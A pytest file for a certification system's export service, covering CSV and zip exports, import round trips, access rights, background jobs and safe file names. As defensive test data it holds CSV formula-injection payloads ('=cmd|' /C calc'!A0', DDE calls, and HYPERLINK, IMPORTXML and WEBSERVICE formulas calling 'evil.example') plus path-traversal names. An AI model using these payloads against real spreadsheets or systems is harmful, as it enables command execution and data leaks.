"""Exports: files that say what is stored, that no spreadsheet runs, and that can be imported again (R-93, R-94)."""

import csv
import io
import json
import zipfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from datetime import date, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any, BinaryIO

import pytest
from attrs import evolve

from certcore.adapters.memory import Branch, MemoryCatalog, MemoryDirectory, MemoryExports
from certcore.domain.awards import MANUAL, Basis, BasisKind, Details, Link, Status
from certcore.domain.certifications import Item, ItemRef
from certcore.domain.checks import UNSTORABLE
from certcore.domain.decisions import Held
from certcore.domain.exports import HEADERS, Layout
from certcore.domain.jobs import Job, JobState
from certcore.domain.people import Actor, Person, Role
from certcore.domain.searching import Days
from certcore.domain.spreadsheets import unguarded
from certcore.errors import IdempotencyConflict, InvalidValue, NotFound, NotSupported
from certcore.ports import Storage
from certcore.services.exporting import ExportReport
from certcore.services.exporting import service as exporting
from certcore.services.finding import Emptied
from certcore.services.importing import ImportRequest
from tests.services.platform import ADMIN, Platform, platform_over
from tests.services.workers import Collecting, after

BOSS = Actor("id-boss", frozenset({Role.MANAGER}))
TRIGGERS = "=+-@\t\uff1d\uff0b\uff0d\uff20"
ONE_LINE = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example","click")',
    '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
    '=WEBSERVICE("https://evil.example")',
    '=DDE("cmd";"/C calc";"__DdeLink_60")',
    "'=1+1",
    "''=1+1",
    "'",
    "''",
    "'quoted'",
    '"=1+1"',
    '"',
    '""',
    "a,=1+1",
    "a;=1+1",
    "a|=1+1",
    "=",
    "+",
    "-",
    "@",
    "-1",
    "+39 02 1234",
    "@ana",
    "--",
    "=+-@",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "' =1+1",
    "=1+1 ",
    "{=1+1}",
    "%0A=1+1",
    "null",
    "sep=;",
]
SEVERAL_LINES = [
    "first\n=1+1",
    "first\r\n=1+1",
    "first\r=1+1",
    "first\n'=1+1",
    "\n=1+1",
    "first\n\t=1+1",
    "\t=1+1",
    "one\n-2\n@three\n+four",
]
HOSTILE = [*ONE_LINE, *SEVERAL_LINES]


def exported(platform: Platform, actor: Actor = ADMIN, **asked: Any) -> tuple[ExportReport, list[dict[str, str]]]:
    """What an export says of itself, and its rows by column."""
    target = io.BytesIO()
    report = platform.registrar.exporting.write(target, actor=actor, **asked)
    return report, list(csv.DictReader(io.StringIO(target.getvalue().decode("utf-8"), newline="")))


def unzipped(platform: Platform, **asked: Any) -> dict[str, list[str]]:
    """The usernames of each file of an export."""
    target = io.BytesIO()
    report = platform.registrar.exporting.write(target, actor=ADMIN, **asked)
    with zipfile.ZipFile(target) as archive:
        texts = {name: archive.read(name).decode("utf-8") for name in archive.namelist()}
    assert report.files == len(texts)
    rows = {name: list(csv.DictReader(io.StringIO(text, newline=""))) for name, text in texts.items()}
    return {name: sorted(row["username"] for row in each) for name, each in rows.items()}


@pytest.fixture
def some(platform: Platform) -> Platform:
    """Ana earned SAFE-1 by a course and renewed it; Bo holds it by hand for ever, Cy an external one."""
    platform.catalog = MemoryCatalog([Item(ItemRef.parse("course:C-1"), "First aid, day 1")])
    platform.registrar = platform.registrar_with()
    platform.certification("SAFE-1", items=["course:C-1"])
    earned = Basis(BasisKind.COURSE, "C-1")
    details = Details(score=Decimal(92), completed_on=date(2026, 2, 27), note="secret")
    platform.award("ana", issued_on=date(2026, 3, 1), basis=earned, details=details)
    platform.award("ana", issued_on=date(2026, 3, 2), held=Held.RENEW)
    platform.award("bo", always_valid=True)
    elsewhere = Basis(BasisKind.EXTERNAL_CERTIFICATION, None, (Link("Credly", "https://credly.com/b/1"),))
    platform.award("cy", basis=elsewhere)
    return platform


def test_a_report_says_what_is_known_of_each_award(some: Platform) -> None:
    """R-93, R-10, R-16: names, titles, completion dates, scores, numbers, the days of the award's zone; no notes."""
    some.now += timedelta(days=30)
    report, rows = exported(some, username="ana", statuses=Status.ARCHIVED)
    (row,) = rows
    assert report == ExportReport(1)
    number = row.pop("certificate_number")
    assert some.registrar.reporting.show(number, actor=ADMIN)[0].status is Status.ARCHIVED
    assert row == {
        "username": "ana",
        "first_name": "Ana",
        "last_name": "Rossi",
        "name_on_certificate": "Ana Rossi",
        "certification_code": "SAFE-1",
        "certification_title": "Name of SAFE-1",
        "type": "course",
        "code": "C-1",
        "item_title": "First aid, day 1",
        "completion_date": "2026-02-27",
        "score": "92",
        "credits": "",
        "issue_date": "2026-03-01",
        "expire_date": "2027-03-01",
        "last_valid_day": "2027-02-28",
        "zone": "UTC",
        "status": "archived",
    }


def test_an_export_to_import_has_live_awards_in_the_columns_of_an_import(some: Platform) -> None:
    """R-93: what a file cannot name is given as manual, and counted."""
    report, rows = exported(some, layout="import")
    assert {row["username"]: tuple(row.values())[1:] for row in rows} == {
        "ana": ("SAFE-1", "2026-03-02", "false", "2027-03-02", "manual", ""),
        "bo": ("SAFE-1", "2026-03-01", "true", "", "manual", ""),
        "cy": ("SAFE-1", "2026-03-01", "false", "2027-03-01", "manual", ""),
    }
    assert tuple(rows[0]) == HEADERS[Layout.IMPORT]
    assert (report.awards, report.as_manual, report.left_out) == (3, 1, {})


def test_whom_no_file_can_name_is_left_out_and_counted(some: Platform) -> None:
    """Learners whom the directory knows no more, certifications without a code; a report has them all."""
    some.registrar.defining.add("Without a code", actor=ADMIN)
    (uncoded,) = [
        each.certification for each in some.registrar.defining.overviews(actor=ADMIN) if not each.certification.code
    ]
    some.award("bo", code=uncoded.id)  # type: ignore[arg-type]
    some.directory = MemoryDirectory([Person("id-bo", "bo"), Person("id-cy", "cy")])
    some.registrar = some.registrar_with()
    report, rows = exported(some, layout="import")
    assert sorted(row["username"] for row in rows) == ["bo", "cy"]
    assert report.left_out == {"no_username": 1, "no_code": 1}
    report, rows = exported(some, statuses=Status.ACTIVE)
    assert (report.awards, report.left_out) == (4, {})
    assert {row["name_on_certificate"] for row in rows if row["username"] == "id-ana"} == {"Ana Rossi"}


def test_f11_hostile_texts_are_run_by_no_spreadsheet_and_come_back_unharmed(platform: Platform) -> None:
    """R-93: in every field, also after line breaks inside a cell, which an item's title can have."""
    assert len(HOSTILE) == 47
    people, items = [], []
    for n, text in enumerate(HOSTILE):
        name = text if text in ONE_LINE else text.split()[0]
        people.append(Person(f"id-{n}", f"{name}{n}", name, name))
        items.append(Item(ItemRef.parse(f"course:{name}{n}"), text))
    platform.directory, platform.catalog = MemoryDirectory(people), MemoryCatalog(items)
    platform.registrar = platform.registrar_with()
    for n, (person, item) in enumerate(zip(people, items, strict=True)):
        code = f"{person.first_name}-{n}"
        platform.registrar.defining.add(person.first_name, code=code, actor=ADMIN)
        platform.registrar.defining.assign(code, [item.ref], actor=ADMIN)
        platform.award(person.username, code=code, basis=Basis(BasisKind.COURSE, item.ref.code))
    report, rows = exported(platform)
    assert report.awards == len(HOSTILE)
    cells = [cell for row in rows for cell in row.values()]
    assert not [line for cell in cells for line in cell.splitlines() or [""] if line[:1] and line[0] in TRIGGERS]
    by_title = {unguarded(row["item_title"]): row for row in rows}
    for person, item in zip(people, items, strict=True):
        row = {column: unguarded(cell) for column, cell in by_title[item.title].items()}
        assert (row["username"], row["first_name"], row["code"]) == (person.username, person.first_name, item.ref.code)
        assert row["certification_title"] == person.first_name


def test_every_name_of_the_world_is_exported_as_it_is(platform: Platform, cases: Path) -> None:
    """R-93: whatever its script; what no storage keeps is refused before."""
    listed = json.loads((cases / "unicode_names.json").read_text("utf-8"))["names"]
    names = {each["id"]: each["name"] for each in listed if not UNSTORABLE.search(each["name"])}
    assert len(names) == 25
    platform.directory = MemoryDirectory([Person(f"id-{n}", n, name) for n, name in names.items()])
    platform.registrar = platform.registrar_with()
    platform.certification("SAFE-1")
    platform.award(*names)
    _, rows = exported(platform)
    assert {row["username"]: unguarded(row["first_name"]) for row in rows} == names


def test_f11_an_import_layout_comes_back_with_equal_columns(new_storage: Callable[[], Storage]) -> None:
    """R-93: exported, imported into an empty store, and exported again: the same file, whatever the texts in it."""
    people = [Person(f"id-{n}", f"{text}{n}", text, "") for n, text in enumerate(ONE_LINE)]
    people += [Person(f"plain-{n}", f"learner{n}", "L", str(n)) for n in range(60)]
    catalog = MemoryCatalog([Item(ItemRef.parse(text)) for text in ("course:=C-1", "learning_plan:@P")])
    files: list[bytes] = []
    for place in range(2):
        platform = platform_over(new_storage())
        platform.directory, platform.catalog = MemoryDirectory(people), catalog
        platform.registrar = platform.registrar_with()
        platform.certification("+CODE", items=["course:=C-1"])
        platform.certification("SAFE-2", items=["learning_plan:@P"])
        if place == 0:
            for n, person in enumerate(people):
                earned = Basis(BasisKind.COURSE, "=C-1") if n % 2 else MANUAL
                platform.award(person.username, code="+CODE", basis=earned, always_valid=n % 5 == 0, zone="Asia/Beirut")
                day = date(2026, 1, 1) + timedelta(n)
                plan = Basis(BasisKind.LEARNING_PLAN, "@P")
                platform.award(person.username, code="SAFE-2", issued_on=day, basis=plan, zone="Asia/Beirut")
        else:
            request = ImportRequest(zone="Asia/Beirut", notify=False)
            done = platform.registrar.importing.run(io.BytesIO(files[0]), request, actor=ADMIN)
            assert (done.new, done.rejected) == (2 * len(people), 0)
        target = io.BytesIO()
        platform.registrar.exporting.write(target, actor=ADMIN, layout=Layout.IMPORT)
        files.append(target.getvalue())
    assert sorted(files[0].splitlines()) == sorted(files[1].splitlines())


def test_an_export_has_a_file_for_each_item_or_branch(some: Platform) -> None:
    """R-93: who is in two branches is in both files, who is in none in one of those; names are safe and differ."""
    assert unzipped(some, by="item") == {"course C-1.csv": ["ana"], "without item.csv": ["ana", "bo", "cy"]}
    assert unzipped(some, by="branch", statuses=Status.ACTIVE) == {
        "italy.csv": ["ana"],
        "rome.csv": ["ana", "bo"],
        "without branch.csv": ["cy"],
    }
    people = some.directory.people(["id-ana", "id-bo", "id-cy"]).values()
    branches = {"a/b": Branch(members=["ana"]), "A_B": Branch(members=["bo"]), "..": Branch(members=["cy"])}
    some.directory = MemoryDirectory(people, branches=branches)
    some.registrar = some.registrar_with()
    assert list(unzipped(some, by="branch")) == ["_.csv", "A_B.csv", "a_b (2).csv"]


def test_f53_files_of_a_zip_have_names_of_their_own_on_any_system(some: Platform, tmp_path: Path) -> None:
    """Codes that differ in case only, that are paths, and that are longer than a folder takes."""
    codes = ["c-1", "../up", "con", "\u8a3c" * 255, "\u8a3c" * 254]
    some.catalog = MemoryCatalog([Item(ItemRef.parse(f"course:{code}")) for code in ["C-1", *codes]])
    some.registrar = some.registrar_with()
    for place, code in enumerate(codes):
        some.certification(f"FOR-{place}", items=[f"course:{code}"])
        some.award("cy", code=f"FOR-{place}", basis=Basis(BasisKind.COURSE, code))
    target = io.BytesIO()
    report = some.registrar.exporting.write(target, actor=ADMIN, by="item")
    with zipfile.ZipFile(target) as archive:
        archive.extractall(tmp_path / "files")
        names = archive.namelist()
    assert len({name.casefold() for name in names}) == report.files == len(codes) + 2
    assert sorted(each.name for each in (tmp_path / "files").iterdir()) == sorted(names)


def test_a_directory_without_branches_says_so(some: Platform) -> None:
    """Rather than a file in which nobody is in any."""

    class Flat(MemoryDirectory):
        branches_of = MemoryDirectory.__mro__[1].branches_of  # type: ignore[attr-defined]

    some.directory = Flat([Person("id-ana", "ana")])
    some.registrar = some.registrar_with()
    with pytest.raises(NotSupported, match="branches"):
        exported(some, by="branch")


def test_an_empty_export_has_its_header_and_says_why_it_is_empty(some: Platform) -> None:
    """R-93, SEED 0: which filter emptied it."""
    report, rows = exported(some, name="ana", certifications="SAFE-2")
    assert rows == []
    assert report.emptied is not None
    assert report.emptied.filters == ("certifications",)


def test_a_file_to_import_is_empty_for_its_own_reasons(some: Platform) -> None:
    """Awards that are there but over, or of nobody known, are no fault of the filters."""
    some.registrar.archiving.revoke(some.number_of("bo"), reason="lost", actor=ADMIN)
    for certification in (None, "SAFE-1"):
        report, rows = exported(some, layout="import", username="bo", certifications=certification)
        assert rows == []
        assert report.emptied is not None
        assert report.emptied == Emptied(("username",), live=True)
        assert "No live award fits the filter username" in report.emptied.sentence
    some.directory = MemoryDirectory([])
    some.registrar = some.registrar_with()
    report, rows = exported(some, layout="import")
    assert (rows, report.left_out, report.emptied) == ([], {"no_username": 2}, None)


def test_an_export_goes_on_over_many_pages(some: Platform, monkeypatch: pytest.MonkeyPatch) -> None:
    """Each award once, told of as it goes; by days too, where all share one."""
    monkeypatch.setattr(exporting, "_AT_ONCE", 1)
    told: list[int] = []
    report, rows = exported(some, progress=told.append)
    assert len({row["certificate_number"] for row in rows}) == report.awards == 4
    assert told == [1, 2, 3, 4]


def test_f46_somebody_exports_whom_they_oversee_and_learners_nobody(some: Platform) -> None:
    """R-114: a manager has those they manage; a learner's export is refused as if it were not there."""
    _, rows = exported(some, actor=BOSS)
    assert {row["username"] for row in rows} == {"ana"}
    with pytest.raises(NotFound):
        exported(some, actor=Actor("id-ana", frozenset({Role.LEARNER})))


def test_a_mark_tells_spreadsheets_of_utf_8(some: Platform) -> None:
    """Only where it is asked for, once, also in every file of a zip; an import takes it."""
    target = io.BytesIO()
    some.registrar.exporting.write(target, actor=ADMIN, bom=True, layout="import")
    assert target.getvalue().count("\ufeff".encode()) == 1
    target.seek(0)
    done = some.registrar.importing.run(target, ImportRequest(zone="UTC"), actor=ADMIN, dry_run=True)
    assert (done.unchanged, done.updated) == (2, 1), done.errors  # the external one would be manual


@pytest.mark.parametrize("asked", [{"layout": "pdf"}, {"by": "group"}, {"name": ""}, {"course": "C-1"}])
def test_what_cannot_be_asked_for_is_refused(some: Platform, asked: dict[str, Any]) -> None:
    """A typed error, before anything is written."""
    target = io.BytesIO()
    with pytest.raises(InvalidValue):
        some.registrar.exporting.write(target, actor=ADMIN, **asked)
    assert target.getvalue() == b""


def test_r61_what_is_taken_from_a_manager_while_they_export_is_not_in_the_file(
    some: Platform, monkeypatch: pytest.MonkeyPatch
) -> None:
    """They lose it at once, also between two pages of their own export."""
    monkeypatch.setattr(exporting, "_AT_ONCE", 1)
    some.directory = MemoryDirectory(
        [Person("id-ana", "ana"), Person("id-boss", "boss")], managers={"ana": "boss", "boss": "boss"}
    )
    some.registrar = some.registrar_with()
    some.award("boss", issued_on=date(2026, 3, 3))
    number = some.number_of("boss")

    def revoke(_count: int) -> None:
        some.registrar.archiving.revoke(number, reason="by mistake", actor=ADMIN)

    report, rows = exported(some, BOSS, issued=Days(), progress=revoke)
    assert (report.awards, {row["username"] for row in rows}) == (2, {"ana"})


@pytest.fixture
def queue() -> Collecting:
    return Collecting()


@pytest.fixture
def queueing(some: Platform, queue: Collecting, monkeypatch: pytest.MonkeyPatch) -> Platform:
    """The same with a place for files, workers, and pages of one award."""
    monkeypatch.setattr(exporting, "_AT_ONCE", 1)
    some.exports = MemoryExports()
    some.registrar = some.registrar_with(queue)
    return some


def content(platform: Platform, job: Job, actor: Actor = ADMIN) -> list[dict[str, str]]:
    with platform.registrar.exporting.open(job.public_id, actor=actor) as file:
        return list(csv.DictReader(io.StringIO(file.read().decode("utf-8"), newline="")))


def files_of(platform: Platform, job: Job) -> list[str]:
    """The files that an export job has left, for whoever asks."""
    left = []
    for name in (f"{job.public_id}.csv", f"{job.public_id}.zip"):
        with suppress(NotFound), platform.exports.reading(name):  # type: ignore[union-attr]
            left.append(name)
    return left


def test_an_export_can_be_left_to_a_worker(queueing: Platform) -> None:
    """R-94: every filter is kept, the file is there when it is done, and its report with it; once per key."""
    asked = {
        "name": "ana",
        "issued": None,
        "statuses": [Status.ACTIVE, Status.ARCHIVED],
        "items": ItemRef.parse("course:C-1"),
    }
    job = queueing.registrar.exporting.queue(actor=ADMIN, key="2026-03", **asked)  # type: ignore[arg-type]
    with pytest.raises(NotFound):
        content(queueing, job)
    (done,) = queueing.registrar.running.run_queued()
    assert (done.id, done.state, done.done) == (job.id, JobState.DONE, 1)
    assert [row["username"] for row in content(queueing, done)] == ["ana"]
    assert queueing.registrar.exporting.report(done.public_id, actor=ADMIN) == ExportReport(1)
    assert queueing.registrar.exporting.queue(actor=ADMIN, key="2026-03", **asked) == done  # type: ignore[arg-type]
    with pytest.raises(IdempotencyConflict):
        queueing.registrar.exporting.queue(actor=ADMIN, key="2026-03", name="bo")
    for _ in range(2):
        queueing.registrar.exporting.delete(done.public_id, actor=ADMIN)
    with pytest.raises(NotFound):
        content(queueing, done)


def test_an_export_that_is_to_stop_begins_anew_with_another_worker(queueing: Platform) -> None:
    """Nothing of a file is there until it is whole."""
    job = queueing.registrar.exporting.queue(actor=ADMIN)
    stopped = queueing.registrar.running.run(job.id, after(2))
    assert stopped is not None
    assert stopped.state is JobState.QUEUED
    with pytest.raises(NotFound):
        content(queueing, job)
    done = queueing.registrar.running.run(job.id)
    assert done is not None
    assert (done.state, len(content(queueing, done))) == (JobState.DONE, 4)


def test_a_cancelled_export_leaves_no_file_and_can_be_resumed(queueing: Platform) -> None:
    """Cancelled in its midst by somebody else."""
    job = queueing.registrar.exporting.queue(actor=ADMIN)
    running, told = queueing.registrar.running, []

    def cancel() -> bool:
        told.append(1)
        if len(told) == 3:
            running.cancel(job.public_id, actor=ADMIN)
        return False

    cancelled = running.run(job.id, cancel)
    assert cancelled is not None
    assert cancelled.state is JobState.CANCELLED
    with pytest.raises(NotFound):
        content(queueing, job)
    assert files_of(queueing, job) == []
    assert len(told) == 3
    running.resume(job.public_id, actor=ADMIN)
    done = running.run(job.id)
    assert done is not None
    assert len(content(queueing, done)) == 4


@pytest.mark.parametrize("by", [None, "item"])
def test_an_export_that_is_cancelled_at_its_end_leaves_no_file(
    queueing: Platform, by: str | None, monkeypatch: pytest.MonkeyPatch
) -> None:
    """While the zip is packed, or the file brought to its place: nobody could fetch or delete it (R-62)."""
    job = queueing.registrar.exporting.queue(actor=ADMIN, by=by)
    writing = MemoryExports.writing

    @contextmanager
    def cancelled_meanwhile(store: MemoryExports, name: str) -> Iterator[BinaryIO]:
        with writing(store, name) as target:
            yield target
            queueing.registrar.running.cancel(job.public_id, actor=ADMIN)

    monkeypatch.setattr(MemoryExports, "writing", cancelled_meanwhile)
    cancelled = queueing.registrar.running.run(job.id)
    assert cancelled is not None
    assert cancelled.state is JobState.CANCELLED
    assert files_of(queueing, job) == []


def test_of_two_workers_at_one_export_one_goes_on(queueing: Platform) -> None:
    """Delivered twice: who finds that another has brought it further leaves it."""
    job = queueing.registrar.exporting.queue(actor=ADMIN)
    running, others, pages = queueing.registrar.running, [], []

    def another_takes_it() -> bool:
        pages.append(1)
        if len(pages) == 2:
            others.append(running.run(job.id, after(1)))
        return False

    left = running.run(job.id, another_takes_it)
    assert left is not None
    assert (len(pages), left.state, files_of(queueing, job)) == (2, JobState.QUEUED, [])
    done = running.run(job.id)
    assert done is not None
    assert (done.state, done.done, len(content(queueing, done))) == (JobState.DONE, 4, 4)


def test_an_export_asked_for_again_later_under_its_key_is_the_same(queueing: Platform) -> None:
    """R-34, R-94: the scheduler that asks twice does so at two moments; statuses are those of the first."""
    job = queueing.registrar.exporting.queue(actor=ADMIN, key="2026-03", statuses=Status.ACTIVE)
    queueing.now += timedelta(days=400)
    assert queueing.registrar.exporting.queue(actor=ADMIN, key="2026-03", statuses=Status.ACTIVE).id == job.id
    (done,) = queueing.registrar.running.run_queued()
    assert {row["status"] for row in content(queueing, done)} == {"active"}
    with pytest.raises(IdempotencyConflict):
        queueing.registrar.exporting.queue(actor=ADMIN, key="2026-03", statuses=Status.ACTIVE, at=queueing.now)


@pytest.mark.parametrize(
    "filters",
    [{"colours": ["red"]}, {"statuses": ["hibernating"]}, {"issued": ["soon", None]}, {"items": 5}, {"numbers": 5}, 5],
)
def test_f29_an_export_of_filters_that_this_release_does_not_know_is_parked(
    queueing: Platform, queue: Collecting, filters: object
) -> None:
    """It does not fail, nor bring the worker down: another release may know them."""
    job = queueing.registrar.exporting.queue(actor=ADMIN)
    strange = evolve(job, id=job.id + 1, payload={**job.payload, "filters": filters})
    with queueing.storage.transaction() as tx:
        tx.jobs.add(strange)
    parked = queueing.registrar_with(queue).running.run(strange.id)
    assert parked is not None
    assert parked.state is JobState.PARKED


def test_a_job_has_the_rights_of_its_actor_when_it_runs(queueing: Platform, queue: Collecting) -> None:
    """R-34: who no longer manages anybody exports nobody's; others than the asker and admins do not get the file."""
    job = queueing.registrar.exporting.queue(actor=BOSS)
    done = queueing.registrar.running.run(job.id)
    assert done is not None
    assert {row["username"] for row in content(queueing, done, BOSS)} == {"ana"}
    assert content(queueing, done, ADMIN)
    with pytest.raises(NotFound):
        content(queueing, done, evolve(BOSS, id="id-cy"))
    later = queueing.registrar.exporting.queue(actor=BOSS)
    queueing.directory = MemoryDirectory([Person("id-ana", "ana"), Person("id-boss", "boss")])
    failed = queueing.registrar_with(queue).running.run(later.id)
    assert failed is not None
    assert {row["username"] for row in content(queueing, failed, ADMIN)} == set()


def test_f46_somebody_elses_export_looks_like_none(queueing: Platform) -> None:
    """Not there, another job, not done, not theirs: one error with one text, for whoever may export somebody's."""
    other = queueing.registrar.exporting.queue(actor=ADMIN)
    waiting = queueing.registrar.exporting.queue(actor=BOSS)
    queueing.registrar.running.run(other.id)
    exporting = queueing.registrar.exporting
    for public_id in (other.public_id, waiting.public_id, f"{12:016x}", "?"):
        for act in (exporting.open, exporting.report, exporting.delete):
            with pytest.raises(NotFound) as caught:
                act(public_id, actor=BOSS)
            assert str(caught.value) == str(NotFound("export", public_id))


def test_without_a_place_for_files_there_are_no_jobs(some: Platform) -> None:
    """It says what is missing, and parks nothing."""
    with pytest.raises(NotSupported, match="place"):
        some.registrar.exporting.queue(actor=ADMIN)
